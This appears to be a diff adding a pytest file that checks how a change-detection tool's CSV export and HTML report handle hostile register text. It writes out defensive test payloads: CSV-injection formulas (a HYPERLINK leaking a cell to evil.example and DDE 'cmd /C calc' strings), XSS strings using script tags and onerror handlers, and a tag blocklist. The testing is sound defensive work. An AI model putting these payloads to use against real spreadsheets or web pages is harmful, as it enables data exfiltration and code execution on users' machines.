@@ -1,0 +1,118 @@
+"""Audit F (helper-143): the violation lists and the report in other people's hands: a register's
+hostile text in Excel/LibreOffice (CSV injection) and in a browser (the report)."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+from html.parser import HTMLParser
+from pathlib import Path
+
+import geopandas as gpd
+import pyogrio
+import pytest
+from shapely.geometry import box
+
+from changedetect.io.vectors import write_vector
+
+#: a register's text as an attacker (or a careless clerk) may type it: each a formula in a spreadsheet
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB-0001", "\rCR-0002"]
+
+
+@pytest.fixture()
+def hostile() -> gpd.GeoDataFrame:
+    x0, y0 = 686_000.0, 1_192_000.0  # Ho Chi Minh City, EPSG:32648
+    n = len(FORMULAS)
+    return gpd.GeoDataFrame(
+        {
+            "violation_id": [f"V-{i}" for i in range(n)],
+            "status": ["unlicensed"] * n,
+            "permit_ids": [[f, "P-2"] for f in FORMULAS],
+            "address": [f"{f} Số 14 Đường Tô Ký" for f in FORMULAS],
+            "parcel_id": FORMULAS,
+            "excess_area_m2": [-3.5] * n,  # a number, negative: stays a number
+            "first_seen": [dt.date(2024, 3, 1)] * n,
+        },
+        geometry=[box(x0 + 20 * i, y0, x0 + 20 * i + 10, y0 + 15) for i in range(n)],
+        crs="EPSG:32648",
+    )
+
+
+def test_the_csv_gives_a_spreadsheet_no_formula_to_run(hostile: gpd.GeoDataFrame, tmp_path: Path) -> None:
+    """A permit number, an address or a parcel id beginning with = + - @ (or a tab, a carriage return) was
+    written as it is: Excel and LibreOffice, where inspectors open violations.csv, run it as a formula
+    (=HYPERLINK to any site, DDE's =cmd|...).  It is written with a leading ' (OWASP), shown as text;
+    the GeoPackage keeps the register's text as it is, and numbers stay numbers."""
+    path = write_vector(hostile, tmp_path / "v.csv")
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    cells = [(k, v) for row in rows for k, v in row.items() if k not in ("excess_area_m2", "lon", "lat")]
+    assert not [(k, v) for k, v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [r["parcel_id"] for r in rows] == ["'" + f for f in FORMULAS]
+    assert [r["permit_ids"] for r in rows] == [f"'{f},P-2" for f in FORMULAS]
+    assert {r["excess_area_m2"] for r in rows} == {"-3.5"}
+    assert (tmp_path / "v.csvt").read_text().startswith("String,String,String,String,String,Real,Date,WKT")
+    back = pyogrio.read_dataframe(write_vector(hostile, tmp_path / "v.gpkg"))
+    assert list(back["parcel_id"]) == FORMULAS
+
+
+def test_plain_text_is_written_as_it_is(hostile: gpd.GeoDataFrame, tmp_path: Path) -> None:
+    """Only a cell a spreadsheet would run is changed: an id, a Vietnamese address, a hyphen inside."""
+    frame = hostile.iloc[:1].assign(parcel_id="Q12-13-041", address="Số 14 Đường Tô Ký", permit_ids="GP-2024-0031")
+    with write_vector(frame, tmp_path / "v.csv").open(encoding="utf-8-sig", newline="") as f:
+        row = next(csv.DictReader(f))
+    assert (row["parcel_id"], row["address"], row["permit_ids"]) == ("Q12-13-041", "Số 14 Đường Tô Ký",
+                                                                     "GP-2024-0031")
+
+
+def test_a_carriage_return_inside_a_text_keeps_the_row_whole(hostile: gpd.GeoDataFrame, tmp_path: Path) -> None:
+    """An address with a carriage return alone in it (an old Mac line break, a register pasted from a form) was
+    written unquoted: every reader (Excel, pandas, GDAL) split the row there, and its wkt, lon and lat went
+    into the next row's columns.  The CSV now ends its lines as RFC 4180 does (CRLF), and such a text is quoted."""
+    import pandas as pd
+
+    frame = hostile.iloc[:2].assign(address=["Số 14\rĐường Tô Ký", "Số 16\r\nĐường Tô Ký"])
+    path = write_vector(frame, tmp_path / "v.csv")
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["address"] for r in rows] == ["Số 14\rĐường Tô Ký", "Số 16\r\nĐường Tô Ký"]
+    assert len(pd.read_csv(path)) == 2 and len(pyogrio.read_dataframe(path)) == 2
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attrs: set[str] = set()
+        self.sources: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attrs.update(name for name, _ in attrs)
+        self.sources += [str(v) for name, v in attrs if name in ("src", "href")]
+
+
+@pytest.mark.parametrize("lang", ["en", "vi"])
+def test_the_report_escapes_every_register_text(hostile: gpd.GeoDataFrame, lang: str) -> None:
+    """Every text of a card (permit, address, parcel, id, reason, status, change type, title) as markup:
+    the page holds no element or attribute but its own (checked 2026-12-03 on the sample city with a
+    hostile register and parcel layer: none; this keeps it so)."""
+    from changedetect.config import ReportConfig
+    from changedetect.report import render_report
+
+    xss = ['<script>alert(1)</script>', '"><img src=x onerror=alert(2)>', "<b onmouseover=alert(3)>x</b>"]
+    rows = hostile.iloc[:3].copy()
+    for col in ("violation_id", "permit_ids", "address", "parcel_id", "reason", "change_type"):
+        rows[col] = xss
+    rows["parcel_address"] = xss
+    rows["parcel_land_use"] = xss
+    rows["status"] = ["unlicensed", xss[1], xss[2]]
+    page = render_report(rows, config=ReportConfig(title=xss[0], lang=lang, max_cards=0),
+                         run_info={"model": xss[1], "before": xss[2]})
+    seen = _Tags()
+    seen.feed(page)
+    assert not seen.tags & {"script", "iframe", "object", "embed", "link", "a"}
+    assert all(src.startswith("data:image/png;base64,") for src in seen.sources)  # its own images only
+    assert not [a for a in seen.attrs if a.startswith("on")]
+    assert "alert(1)" in page and "onerror" in page  # shown, as text
